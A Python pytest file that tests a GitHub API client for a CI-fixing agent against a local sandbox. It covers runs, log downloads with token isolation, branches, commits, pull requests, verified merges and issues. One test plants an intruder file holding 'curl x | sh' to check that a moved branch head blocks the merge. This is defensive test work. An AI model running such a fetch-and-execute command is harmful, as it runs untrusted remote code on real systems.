"""agent.github against the sandbox over real HTTP: runs, logs, branches, commits, PRs, CI, merge, issues."""

from __future__ import annotations

import io
import secrets
import zipfile

import pytest

from agent.github import Conflict, GitHub, GitHubError, HeadMoved, LogTooLarge, RetryPolicy
from agent.models import Edit
from agent.sandbox import Sandbox

REPO = "Apra-Labs/ApraPipes"
WORKFLOW = ".github/workflows/CI-Linux.yml"
FILES = {"README.md": "ApraPipes\n", WORKFLOW: "uses: actions/upload-artifact@v3\n",
         "base/vcpkg.json": '{"name": "apra"}\n'}
LOGS = {"1_build.txt": b"\xef\xbb\xbf2025-01-01T00:00:00.0000000Z ##[group]Run build\n"
        b"2025-01-01T00:00:01.0000000Z error: upload-artifact v3 is deprecated\n"
        b"2025-01-01T00:00:02.0000000Z ##[error]Process completed with exit code 1.\n"}
FAST = RetryPolicy(max_attempts=4, max_total_wait=10, backoff_base=0.05, backoff_cap=0.2,
                   secondary_min_wait=0.1, reset_margin=1.0, min_rate_limit_wait=0.05)
FIXED_WHEN = [{"file": WORKFLOW, "contains": "upload-artifact@v4"}]


@pytest.fixture(scope="module")
def server():
    with Sandbox(ci_delay=0.05) as sandbox:
        yield sandbox


@pytest.fixture
def sb(server):
    """The module's sandbox with a fresh copy of the repository, no faults and no recorded requests."""
    server.faults.clear()
    server.state.repos.pop(REPO.lower(), None)
    server.add_repo(REPO, files=FILES)
    server.requests.clear()
    yield server
    server.faults.clear()
    server.wait_for_runs(REPO)  # CI threads finish before the repository is replaced


def fresh_token(sb, **kw):
    """A new token, so one test's rate-limit bucket never leaks into another's."""
    return sb.add_token("ghp_" + secrets.token_hex(18), **kw)


@pytest.fixture
def gh(sb):
    return GitHub(sb.url, token=fresh_token(sb), retry=FAST)


def calls(sb, method, path_end, host="api"):
    """Recorded requests of METHOD whose path ends with `path_end`."""
    return [r for r in sb.requests if r.method == method and r.path.endswith(path_end) and r.host == host]


def test_lists_failed_runs_with_their_jobs_and_steps(sb, gh):
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, name="CI-Linux", logs=LOGS)
    runs = gh.list_runs(REPO, status="failure")
    assert [(r["id"], r["conclusion"]) for r in runs] == [(run_id, "failure")]
    assert gh.get_run(REPO, run_id)["name"] == "CI-Linux"
    jobs = gh.list_jobs(REPO, run_id)
    assert jobs[0]["name"] == "build" and jobs[0]["conclusion"] == "failure" and jobs[0]["steps"]


def test_run_log_zip_comes_through_the_redirect_and_the_token_never_reaches_the_log_host(sb, gh):
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS)
    data = gh.download_run_logs(REPO, run_id)
    assert zipfile.ZipFile(io.BytesIO(data)).read("1_build.txt") == LOGS["1_build.txt"]
    (api_call,) = calls(sb, "GET", f"/runs/{run_id}/logs")
    assert api_call.status == 302 and api_call.headers["authorization"] == f"token {gh.tokens.token()}"
    (blob_call,) = [r for r in sb.requests if r.host == "logs"]
    assert blob_call.status == 200 and "authorization" not in blob_call.headers
    assert all(gh.tokens.token() not in str(v) for v in blob_call.headers.values())


def test_logs_of_a_given_attempt_use_the_attempt_endpoint(sb, gh):
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS)
    gh.download_run_logs(REPO, run_id, attempt=1)
    assert [r.status for r in calls(sb, "GET", f"/runs/{run_id}/attempts/1/logs")] == [302]


def test_expired_signed_url_is_refetched_once_with_a_fresh_redirect(sb, gh):
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS)
    sb.faults.add("expire_log_url", times=1)
    data = gh.download_run_logs(REPO, run_id)
    assert zipfile.is_zipfile(io.BytesIO(data))
    assert len(calls(sb, "GET", f"/runs/{run_id}/logs")) == 2
    assert [r.status for r in sb.requests if r.host == "logs"] == [403, 200]


def test_signed_url_expired_twice_is_one_clear_error_without_more_requests(sb, gh):
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS)
    sb.faults.add("expire_log_url", times=-1)
    with pytest.raises(GitHubError, match="rejected again after a fresh redirect"):
        gh.download_run_logs(REPO, run_id)
    assert len(calls(sb, "GET", f"/runs/{run_id}/logs")) == 2
    assert len([r for r in sb.requests if r.host == "logs"]) == 2


def test_run_log_zip_over_the_cap_is_refused_with_log_too_large(sb, gh):
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS)
    with pytest.raises(LogTooLarge, match="over the cap of 100 bytes"):
        gh.download_run_logs(REPO, run_id, max_bytes=100)


def test_job_log_over_the_cap_keeps_the_tail_after_a_truncation_marker(sb, gh):
    noise = b"".join(b"2025-01-01T00:00:00.0000000Z compiling unit %05d\n" % i for i in range(5000))
    logs = {"1_build.txt": noise + LOGS["1_build.txt"]}
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, logs=logs)
    job_id = gh.list_jobs(REPO, run_id)[0]["id"]
    full = gh.download_job_log(REPO, job_id)
    assert full.truncated_bytes == 0 and full.endswith(b"exit code 1.\n")
    capped = gh.download_job_log(REPO, job_id, max_bytes=1000)
    dropped = len(full) - 1000
    assert capped.truncated_bytes == dropped
    assert capped.startswith(f"[truncated {dropped} bytes]\n".encode()) and capped.endswith(full[-1000:])


def test_poll_runs_answers_none_when_nothing_changed_and_sends_the_etag(sb, gh):
    sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS)
    assert len(gh.poll_runs(REPO, status="failure")) == 1
    assert gh.poll_runs(REPO, status="failure") is None
    second = calls(sb, "GET", "/actions/runs")[-1]
    assert second.status == 304 and second.headers["if-none-match"]
    sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS)
    assert len(gh.poll_runs(REPO, status="failure")) == 2


def fix_branch(gh, branch="agent/fix-upload-artifact"):
    """Create the agent's branch off main and commit the fix as one commit. → (branch, base sha, head sha)."""
    base = gh.branch_sha(REPO, "main")
    gh.create_branch(REPO, branch, base)
    edits = [Edit(path=WORKFLOW, old=FILES[WORKFLOW], new="uses: actions/upload-artifact@v4\n"),
             Edit(path="docs/ci-notes.md", old=None, new="upload-artifact v3 is gone\n")]
    return branch, base, gh.commit_files(REPO, branch, edits, "ci: upload-artifact v4")


def test_commit_files_makes_one_commit_with_every_edit(sb, gh):
    branch, base, head = fix_branch(gh)
    assert gh.branch_sha(REPO, branch) == head
    assert sb.repo(REPO).commits[head].parents == [base]
    assert gh.get_file(REPO, WORKFLOW, branch)[0] == "uses: actions/upload-artifact@v4\n"
    assert "docs/ci-notes.md" in gh.list_files(REPO, branch)
    assert gh.get_file(REPO, "docs/ci-notes.md", "main") is None
    assert len(calls(sb, "PATCH", f"/git/refs/heads/{branch}")) == 1


def test_commit_files_refuses_an_edit_made_from_stale_text_and_writes_nothing(sb, gh):
    base = gh.branch_sha(REPO, "main")
    gh.create_branch(REPO, "agent/stale", base)
    stale = Edit(path="README.md", old="something else\n", new="x\n")
    with pytest.raises(Conflict, match="README.md changed"):
        gh.commit_files(REPO, "agent/stale", [stale], "x")
    assert calls(sb, "POST", "/git/blobs") == [] and gh.branch_sha(REPO, "agent/stale") == base


def test_creating_an_existing_branch_at_the_same_sha_is_a_no_op_and_elsewhere_a_conflict(sb, gh):
    branch, base, head = fix_branch(gh)
    gh.create_branch(REPO, branch, head)
    with pytest.raises(Conflict, match="already exists"):
        gh.create_branch(REPO, branch, base)


def test_pull_request_runs_ci_and_merges_only_the_verified_head(sb, gh):
    sb.add_workflow(REPO, WORKFLOW, name="CI-Linux", fixed_when=FIXED_WHEN, failing_logs=LOGS)
    branch, _, head = fix_branch(gh)
    pull = gh.create_pull(REPO, branch, "main", "ci: upload-artifact v4", "Fixes the failing run.")
    assert gh.find_pull(REPO, branch)["number"] == pull["number"]
    assert [r for r in gh.list_runs(REPO, branch=branch) if r["head_sha"] == head]
    sb.wait_for_runs(REPO)
    finished = [r for r in gh.list_runs(REPO, branch=branch) if r["head_sha"] == head]
    assert {(r["status"], r["conclusion"]) for r in finished} == {("completed", "success")}
    assert [c["conclusion"] for c in gh.check_runs(REPO, head)] and gh.combined_status(REPO, head)["sha"] == head
    merge_sha = gh.merge_pull(REPO, pull["number"], head)
    assert gh.branch_sha(REPO, "main") == merge_sha
    assert sb.file_text(REPO, WORKFLOW) == "uses: actions/upload-artifact@v4\n"


def test_merge_is_refused_with_head_moved_when_someone_pushed_after_verification(sb, gh):
    branch, _, verified = fix_branch(gh)
    pull = gh.create_pull(REPO, branch, "main", "fix", "body")
    sb.commit_file(REPO, branch, "evil.sh", "curl x | sh\n", author="intruder")
    with pytest.raises(HeadMoved, match=verified[:7]):
        gh.merge_pull(REPO, pull["number"], verified)
    assert not sb.repo(REPO).pulls[pull["number"]].merged
    assert len(calls(sb, "PUT", f"/pulls/{pull['number']}/merge")) == 1


def test_issue_is_created_and_found_again_by_its_marker_but_pull_requests_are_not_issues(sb, gh):
    branch, _, _ = fix_branch(gh)
    gh.create_pull(REPO, branch, "main", "fix", "<!-- agent:sig=abc -->")
    assert gh.find_issue(REPO, "agent:sig=abc") is None
    issue = gh.create_issue(REPO, "CI-Linux fails: upload-artifact v3", "why\n<!-- agent:sig=abc -->",
                            labels=["ci-failure"])
    found = gh.find_issue(REPO, "agent:sig=abc")
    assert found["number"] == issue["number"] and [label["name"] for label in found["labels"]] == ["ci-failure"]
    gh.comment_issue(REPO, issue["number"], "seen again in run 7")
    gh.add_labels(REPO, issue["number"], ["needs-human"])
    assert {c.body for c in sb.repo(REPO).issues[issue["number"]].comments} == {"seen again in run 7"}


def test_close_pull_and_rerun_failed_jobs_reach_the_sandbox(sb, gh):
    run_id = sb.add_failed_run(REPO, workflow=WORKFLOW, logs=LOGS, rerun_passes=True)
    gh.rerun_failed_jobs(REPO, run_id)
    sb.wait_for_runs(REPO)
    assert gh.get_run(REPO, run_id)["run_attempt"] == 2
    branch, _, _ = fix_branch(gh)
    pull = gh.create_pull(REPO, branch, "main", "fix", "body")
    gh.close_pull(REPO, pull["number"])
    assert gh.find_pull(REPO, branch)["state"] == "closed"


def test_self_hosted_runners_are_listed(sb, gh):
    sb.set_runner(REPO, "jetson-1", status="offline", labels=["self-hosted", "ARM64"])
    (runner,) = gh.list_runners(REPO)
    assert runner["name"] == "jetson-1" and runner["status"] == "offline"
